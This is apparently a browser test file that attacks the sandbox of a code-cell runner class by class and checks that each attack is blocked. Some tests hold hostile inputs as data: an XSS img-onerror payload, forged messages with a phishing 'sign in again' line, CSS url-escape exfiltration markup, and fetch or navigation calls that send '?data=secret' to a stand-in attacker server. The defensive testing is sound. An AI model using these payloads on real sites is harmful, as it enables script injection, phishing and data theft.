/**
 * Cells under attack, in headless Chromium on the built site: cell code written by a stranger
 * tries, class by class, what a reviewer found could get through the runner's boundary
 * (issue "Cells under attack"). Each test names its class. A second local server stands for
 * "another host": it counts every request that reaches it, including any that bypass the
 * browser's request routing, and must count none.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Locator, Page } from 'playwright-core';
import { chromium } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { CHROME_ARGS, chromePath, openPage, type OpenedPage } from '../support/browser';
import { afterRun, openEditor, reload, replaceCode, statusOf, typeCode } from '../support/cells';
import { useBuiltSite } from '../support/session';

const playground = 'articles/playground/';
const site = useBuiltSite();
let opened: OpenedPage | undefined;
let evil: { server: Server; origin: string; hits: string[] };

beforeAll(async () => {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.end('gotcha');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  evil = { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
});
afterAll(() => new Promise<void>((resolve) => evil.server.close(() => resolve())));

afterEach(async () => {
  // The browser reports the requests it refused (CSP); none may have reached the other host.
  expect(evil.hits).toEqual([]);
  if (opened) {
    opened.problems.foreignRequests = [];
    // Hostile figure markup the page's own policy refused while the sanitizer parsed it is a wall working, not a fault.
    opened.problems.consoleErrors = opened.problems.consoleErrors.filter(
      (line) => !/Content Security Policy|runner\/index\.html|CSP violation: [\w-]+ blocked inline \([^)]*\/_astro\/render\./.test(line),
    );
    expect(opened.listProblems()).toEqual([]);
  }
  await opened?.close();
  opened = undefined;
});

async function open(browser: Browser = site.browser, init?: () => void): Promise<Page> {
  opened = await openPage(browser, site.server.url + playground, { allowedHost: site.server.host, scroll: false, settleMs: 500, ...(init ? { init } : {}) });
  return opened.page;
}

const cells = (page: Page) => page.locator('[data-cell]');
const outputOf = (cell: Locator) => cell.locator('[data-cell-output]');
const marker = (page: Page) => page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned);

/** The page is responsive: a task queued now runs within `ms`. */
async function responsive(page: Page, ms = 2000): Promise<boolean> {
  return Promise.race([
    page.evaluate(() => new Promise((r) => setTimeout(() => r(true), 0))),
    new Promise((r) => setTimeout(() => r(false), ms)),
  ]) as Promise<boolean>;
}

describe('1. script in the page from cell code', () => {
  test('forged runner messages are refused, counted and never rendered', async () => {
    const page = await open();
    const cell = cells(page).first();
    const markup = '<img src=x onerror="window.pwned=1">';
    await replaceCode(
      cell,
      [
        `const markup = ${JSON.stringify(markup)};`,
        'for (let run = 0; run < 50; run++) {',
        "  postMessage({ type: 'late', run, log: { level: markup, text: markup } });",
        "  postMessage({ type: 'result', run, result: { outputs: [], sliders: [{ label: 'w', min: markup, max: 1, step: 1, value: 0 }], logs: [], duration: 1 } });",
        '}',
        'await new Promise((r) => setTimeout(r, 50));',
        "display('done');",
      ].join('\n'),
    );
    expect(await marker(page)).toBeUndefined();
    expect(await page.locator('img').count()).toBe(0);
    // The forged result for this very run was refused, so the run ended with that reason.
    await expect(statusOf(cell)).resolves.toMatch(/result this page does not accept \(result\.sliders\[0\]\.min: not a finite number\)/);
    expect(Number(await cell.getAttribute('data-cell-refused'))).toBeGreaterThan(0);
  });

  test('a cell cannot speak for another cell', async () => {
    const page = await open();
    const [attacker, victim] = [cells(page).nth(0), cells(page).nth(2)];
    const before = await outputOf(victim).innerHTML();
    // Both ways out a cell might have: its worker's own port, and the frame's parent window.
    await replaceCode(
      attacker,
      [
        "const send = (m) => { try { parent.postMessage(m, '*'); } catch {} try { postMessage(m); } catch {} };",
        'for (let job = 0; job < 500; job++) {',
        "  send({ type: 'result', job, run: job, cell: 'articles/playground/2', result: { outputs: [{ kind: 'text', text: 'HACKED' }], sliders: [], logs: [], duration: 1 } });",
        "  send({ type: 'late', run: job, cell: 'articles/playground/2', error: { kind: 'runtime', message: 'Your session expired. Sign in again at https://evil.example' } });",
        '}',
        "display('sent');",
      ].join('\n'),
    );
    await page.waitForTimeout(300);
    await expect(statusOf(victim)).resolves.not.toMatch(/session expired/);
    await afterRun(victim, async () => {
      await victim.getByRole('slider').first().focus();
      await page.keyboard.press('ArrowRight');
    });
    await expect(outputOf(victim).innerText()).resolves.not.toMatch(/HACKED/);
    await expect(statusOf(victim)).resolves.not.toMatch(/session expired/);
    expect(await outputOf(victim).innerHTML()).not.toBe('');
    expect(before).toMatch(/<svg/);
  });
});

describe('2. figure markup: no CSS that loads or restyles, no page hooks', () => {
  test('escaped url(), image-set(), @import, @font-face, presentation attributes and hook attributes are all refused', async () => {
    const page = await open();
    const cell = cells(page).first();
    const at = (path: string) => `${evil.origin}/${path}`;
    const payload = [
      `<style>@\\69mport '${at('import')}'; @font-face { font-family: x; src: url(${at('font')}); } body { display: none }</style>`,
      `<svg><style>rect { fill: u\\72l(${at('style-escape')}) }</style>`,
      `<rect width="10" height="10" style="background: image-set('${at('image-set')}' 1x)"/>`,
      `<rect width="10" height="10" style="fill: u\\72l(${at('inline-escape')}); position: fixed; inset: 0; z-index: 9999"/>`,
      `<rect width="10" height="10" fill="u\\72l(${at('fill')})" mask="url(${at('mask')}#m)" filter="url('${at('filter')}')"/>`,
      `<rect width="10" height="10" id="local" fill="url(#grad)" data-cell-action="reset" name="w" class="cell-button plot" tabindex="0"/>`,
      `<image href="${at('image')}"/><use href="${at('use')}#x"/><a href="${at('link')}"><text>click</text></a>`,
      '</svg>',
    ].join('');
    await replaceCode(cell, `const d = document.createElement('div');\nd.innerHTML = ${JSON.stringify(payload)};\ndisplay(d);`);
    await page.waitForTimeout(300);
    const html = await outputOf(cell).innerHTML();
    expect(html).toMatch(/<rect/);
    expect(html).not.toMatch(/<style|<image|<use|<a |data-cell|name=|tabindex|cell-button|\\|image-set|position|z-index/);
    expect(html.match(/url\([^)]*\)/g)).toEqual(['url(#articles-playground-0-grad)']);
    expect(html).toMatch(/id="articles-playground-0-local"/);
    expect(html).toMatch(/class="plot"/);
    // The page itself is untouched, and the cell's own controls are still the only ones.
    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
    expect(await cell.locator('[data-cell-action="reset"]').count()).toBe(1);
  });
});

describe('3. the runner reaches no other host', () => {
  test('fetch, sockets, beacons, imports, navigation and WebRTC are refused inside a cell', async () => {
    const page = await open();
    const cell = cells(page).first();
    const tries = {
      fetch: `await fetch('${evil.origin}/fetch?data=secret')`,
      xhr: `new XMLHttpRequest()`,
      socket: `new WebSocket('ws://127.0.0.1:1/')`,
      events: `new EventSource('${evil.origin}/events')`,
      importScripts: `importScripts('${evil.origin}/script.js')`,
      dynamicImport: `await import('${evil.origin}/module.js')`,
      navigate: `location.href = '${evil.origin}/navigate?data=secret'`,
      webrtc: `new RTCPeerConnection({ iceServers: [] })`,
      worker: `new Worker('${evil.origin}/worker.js')`,
      image: `(() => { const i = document.createElement('img'); i.src = '${evil.origin}/img'; return i.outerHTML; })()`,
    };
    const code = Object.entries(tries)
      .map(
        ([name, expression]) => `try { ${expression}; display('${name}: ran'); } catch (e) { display('${name}: blocked (' + e.message.slice(0, 60) + ')'); }`,
      )
      .join('\n');
    await replaceCode(cell, code);
    const texts = await outputOf(cell).locator('.cell-text').allInnerTexts();
    expect(texts).toHaveLength(Object.keys(tries).length);
    const ran = texts.filter((t) => /: ran$/.test(t)).map((t) => t.split(':')[0]);
    // A linkedom <img> loads nothing, and a worker's location cannot be assigned to navigate.
    expect(ran.filter((name) => name !== 'image')).toEqual([]);
    await page.waitForTimeout(500);
  });
});

describe('4. huge values neither crash nor freeze the page', () => {
  test('a huge thrown string, huge console lines, many late lines and huge figures are cut, with the numbers', async () => {
    const page = await open();
    const [cell, other] = [cells(page).nth(0), cells(page).nth(2)];
    await replaceCode(cell, "throw 'x'.repeat(1e8);", 15_000);
    const alert = await cell.locator('[role="alert"]').innerText();
    expect(alert.length).toBeLessThan(3000);
    expect(alert).toMatch(/more characters/);
    await replaceCode(cell, "setTimeout(() => { throw 'y'.repeat(1e8); });\ndisplay('ok');", 15_000);
    await page.waitForFunction(() => /more characters/.test(document.querySelector('[data-cell] [role="alert"]')?.textContent ?? ''), null, {
      timeout: 15_000,
    });
    await replaceCode(cell, "console.log('z'.repeat(1e7));\nsetTimeout(() => { for (let i = 0; i < 1e5; i++) console.log('late', i); }, 10);", 15_000);
    await page.waitForTimeout(1500);
    const lines = await cell.locator('[data-cell-console] li').allInnerTexts();
    expect(lines.length).toBeLessThanOrEqual(202);
    expect(lines[0]!.length).toBeLessThan(21_000);
    expect(lines.join('\n')).toMatch(/output truncated: a run may log 200 lines/);
    await replaceCode(
      cell,
      "for (let k = 0; k < 8; k++) {\n  const d = document.createElement('div');\n  d.innerHTML = '<svg>' + '<circle r=\"1\"/>'.repeat(1.9e6 / 17) + '</svg>';\n  display(d);\n}",
      15_000,
    );
    await expect(cell.locator('[role="alert"]').innerText()).resolves.toMatch(/Output error.*a run may show 1,000,000 in all/);
    expect(await responsive(page)).toBe(true);
    // Another cell still answers.
    await afterRun(other, async () => {
      await other.getByRole('slider').first().focus();
      await page.keyboard.press('ArrowRight');
    });
  });
});

describe('5. async work stays with its run and its cell', () => {
  test('a detached async loop neither trips another cell nor the next run of its own', async () => {
    const page = await open();
    const [cell, other] = [cells(page).nth(0), cells(page).nth(2)];
    await replaceCode(cell, "slider({ label: 'k', min: 0, max: 1, value: 0 });\n(async () => { while (true) await null; })();\ndisplay('started');");
    await afterRun(other, async () => {
      await other.getByRole('slider').first().focus();
      await page.keyboard.press('ArrowRight');
    });
    await expect(other.locator('[role="alert"]').count()).resolves.toBe(0);
    await afterRun(cell, async () => {
      await cell.getByRole('slider').first().focus();
      await page.keyboard.press('ArrowRight');
    });
    await expect(outputOf(cell).innerText()).resolves.toBe('started');
    await expect(statusOf(cell)).resolves.toMatch(/left code running .* got a fresh runner/);
  });

  test('unhandled rejections, throwing getters, missing imports and awaited timers are reported as what they are', async () => {
    const page = await open();
    const cell = cells(page).first();
    await replaceCode(cell, "Promise.reject(new Error('late'));\ndisplay(1);");
    await page.waitForFunction(() => /Unhandled rejection.*late/.test(document.querySelector('[data-cell] [role="alert"]')?.textContent ?? ''));
    await replaceCode(cell, "throw { get message() { throw new Error('gotcha'); }, get [Symbol.toPrimitive]() { throw 1; } };");
    await expect(cell.locator('[role="alert"]').innerText()).resolves.toMatch(/^Thrown value: /);
    await expect(cell.locator('[role="alert"]').innerText()).resolves.not.toMatch(/loop|Stopped/);
    await replaceCode(cell, "import { sigmoid, sigmod } from 'neuron';\ndisplay(1);");
    await expect(cell.locator('[role="alert"]').innerText()).resolves.toMatch(
      /Import error at line 1, column 19: "neuron" has no export named "sigmod"; did you mean "sigmoid"\?/,
    );
    await replaceCode(cell, "await new Promise((r) => setTimeout(r, 1500));\ndisplay('waited');", 10_000);
    await expect(outputOf(cell).innerText()).resolves.toBe('waited');
  });

  test("one cell's changes to built-ins never reach another cell", async () => {
    const page = await open();
    const [cell, other] = [cells(page).nth(0), cells(page).nth(2)];
    await replaceCode(cell, "Math.exp = () => 1;\nObject.prototype.polluted = 'yes';\ndisplay(Math.exp(0));");
    await replaceCode(other, "display(String(Math.exp(1)) + ' ' + String(({}).polluted));");
    await expect(outputOf(other).innerText()).resolves.toBe(`${Math.exp(1)} undefined`);
    // And new code in the same cell starts in a fresh realm too.
    await replaceCode(cell, 'display(String(Math.exp(1)));');
    await expect(outputOf(cell).innerText()).resolves.toBe(String(Math.exp(1)));
  });
});

describe('6. where the frame shares the page process', () => {
  let unisolated: Browser;
  beforeAll(async () => {
    unisolated = await chromium.launch({
      executablePath: chromePath(),
      headless: true,
      args: [...CHROME_ARGS, '--disable-features=IsolateSandboxedIframes', '--disable-site-isolation-trials'],
    });
  });
  afterAll(() => unisolated?.close());

  test('a microtask loop and a huge fill leave the page responsive, and the cell recovers', async () => {
    const page = await open(unisolated);
    const [cell, other] = [cells(page).nth(0), cells(page).nth(2)];
    const otherReruns = () =>
      afterRun(other, async () => {
        await other.getByRole('slider').first().focus();
        await page.keyboard.press('ArrowRight');
      });
    // The run itself ends (its continuation is one of the microtasks); its worker never idles again.
    await replaceCode(cell, "slider({ label: 'k', min: 0, max: 1, value: 0 });\nconst f = () => Promise.resolve().then(f);\nf();\ndisplay('looping');");
    expect(await responsive(page, 1000)).toBe(true);
    await otherReruns();
    await afterRun(cell, async () => {
      await cell.getByRole('slider', { name: 'k' }).focus();
      await page.keyboard.press('ArrowRight');
    });
    await expect(statusOf(cell)).resolves.toMatch(/got a fresh runner/);
    // A huge fill never reaches a loop check: the page stays responsive and Stop ends it.
    await typeCode(cell, 'new Array(1e9).fill(0);');
    const stop = cell.locator('[data-cell-status]').getByRole('button', { name: 'Stop' });
    await stop.waitFor({ timeout: 5000 });
    expect(await responsive(page, 1000)).toBe(true);
    await otherReruns();
    await afterRun(cell, () => stop.click());
    await expect(cell.locator('[role="alert"]').innerText()).resolves.toMatch(/stopped by you/);
  });
});

describe('7. saved state cannot lock the reader out or vanish', () => {
  test('code that was still running when the page went away is not rerun on load', async () => {
    const page = await open();
    const id = (await cells(page).first().getAttribute('data-cell'))!;
    const key = `bias-field-guide:cell:v1:${id}`;
    await page.evaluate(
      ([k]) => {
        localStorage.setItem(k!, JSON.stringify({ code: "display('ran');", sliders: {} }));
        localStorage.setItem(`${k}:running`, String(Date.now()));
      },
      [key],
    );
    await reload(page);
    const cell = cells(page).first();
    await page.waitForFunction(() =>
      /still running when this page last closed/.test(document.querySelector('[data-cell] [data-cell-status]')?.textContent ?? ''),
    );
    await page.waitForTimeout(500);
    await expect(outputOf(cell).innerText()).resolves.not.toBe('ran');
    await afterRun(cell, () => cell.getByRole('button', { name: 'Run it' }).click());
    await expect(outputOf(cell).innerText()).resolves.toBe('ran');
    expect(await page.evaluate((k) => localStorage.getItem(`${k}:running`), key)).toBeNull();
  });

  test('two damaged entries are both kept, each under its own key', async () => {
    const page = await open();
    const id = (await cells(page).first().getAttribute('data-cell'))!;
    const key = `bias-field-guide:cell:v1:${id}`;
    for (const damaged of ['first oops', 'second oops']) {
      await page.evaluate(([k, v]) => localStorage.setItem(k!, v!), [key, damaged]);
      await reload(page);
      await page.waitForFunction(() => /damaged/.test(document.querySelector('[data-cell] [data-cell-status]')?.textContent ?? ''));
    }
    const kept = await page.evaluate((k) => [localStorage.getItem(`${k}:damaged`), localStorage.getItem(`${k}:damaged:2`)], key);
    expect(kept).toEqual(['first oops', 'second oops']);
  });

  test('with storage blocked the page keeps its theme and its cells, and says edits cannot be saved', async () => {
    const page = await open(site.browser, () => {
      Object.defineProperty(window, 'localStorage', {
        configurable: true,
        get() {
          throw new DOMException('The user has blocked storage', 'SecurityError');
        },
      });
    });
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toMatch(/^(light|dark)$/);
    const cell = cells(page).first();
    await replaceCode(cell, "display('works');");
    await expect(outputOf(cell).innerText()).resolves.toBe('works');
    await expect(statusOf(cell)).resolves.toMatch(/cannot be saved/);
  });

  test('a slider value that is not a number never reaches the cell, and __proto__ cannot label a slider', async () => {
    const page = await open();
    const cell = cells(page).first();
    const w = cell.getByRole('slider', { name: 'w' });
    await w.evaluate((input: HTMLInputElement) => {
      input.type = 'text';
      input.value = 'NaN';
      input.dispatchEvent(new Event('input', { bubbles: true }));
    });
    await page.waitForTimeout(300);
    expect(await cell.getAttribute('data-cell-runs')).toBeNull();
    await replaceCode(cell, "const p = slider({ label: '__proto__', min: 0, max: 1, value: 0 });\ndisplay(p);");
    await expect(cell.locator('[role="alert"]').innerText()).resolves.toMatch(/"__proto__" cannot label a slider/);
  });
});

describe('8. sliders stay under the hand', () => {
  test('the first drag of a fresh page reaches the end and keeps focus', async () => {
    const page = await open();
    const cell = cells(page).first();
    const w = cell.getByRole('slider', { name: 'w' });
    const box = (await w.boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.mouse.down();
    for (let step = 1; step <= 20; step++) await page.mouse.move(box.x + box.width / 2 + (step * box.width) / 20, box.y + box.height / 2);
    await page.mouse.up();
    await page.waitForTimeout(500);
    expect(await w.inputValue()).toBe('10');
    expect(await page.evaluate(() => (document.activeElement as HTMLInputElement | null)?.name)).toBe('w');
    await expect(cell.locator('[data-cell-sliders] output').first().innerText()).resolves.toBe('10');
  });

  test('the page holds no more nodes after 70 edits than after 10', async () => {
    const page = await open();
    const cell = cells(page).first();
    const nodes = () => page.evaluate(() => document.getElementsByTagName('*').length);
    const edit = async (n: number) => {
      for (let i = 0; i < n; i++) {
        // A space, then its removal: the code's length (and the editor's lines) stay put.
        await afterRun(cell, () => (i % 2 ? page.keyboard.press('Backspace') : page.keyboard.insertText(' ')));
      }
    };
    // Edits of the article's own code: each rerun draws the figure and rebuilds the console.
    await (await openEditor(cell)).click();
    await page.keyboard.press('ControlOrMeta+End');
    await edit(10);
    const after10 = await nodes();
    await edit(60);
    // Something kept per edit (the reviewer saw ~150 nodes an edit) would add thousands.
    expect(await nodes()).toBeLessThan(after10 + 60);
  });
});

describe('long runs', () => {
  test('a 3 s loop and a 3 s await finish with their results while another cell reruns', async () => {
    const page = await open();
    const [cell, other] = [cells(page).nth(0), cells(page).nth(2)];
    await typeCode(cell, "const end = Date.now() + 3000;\nlet n = 0;\nwhile (Date.now() < end) n++;\ndisplay('looped');");
    await cell.locator('[data-cell-status]').getByRole('button', { name: 'Stop' }).waitFor({ timeout: 3000 });
    await afterRun(other, async () => {
      await other.getByRole('slider').first().focus();
      await page.keyboard.press('ArrowRight');
    });
    await page.waitForFunction(() => document.querySelector('[data-cell] [data-cell-output]')?.textContent === 'looped', null, { timeout: 15_000 });
    await expect(statusOf(cell)).resolves.toMatch(/^Ran in \d(\.\d)? s\.$/);
    await replaceCode(cell, "await new Promise((r) => setTimeout(r, 3000));\ndisplay('awaited');", 15_000);
    await expect(outputOf(cell).innerText()).resolves.toBe('awaited');
  });
});
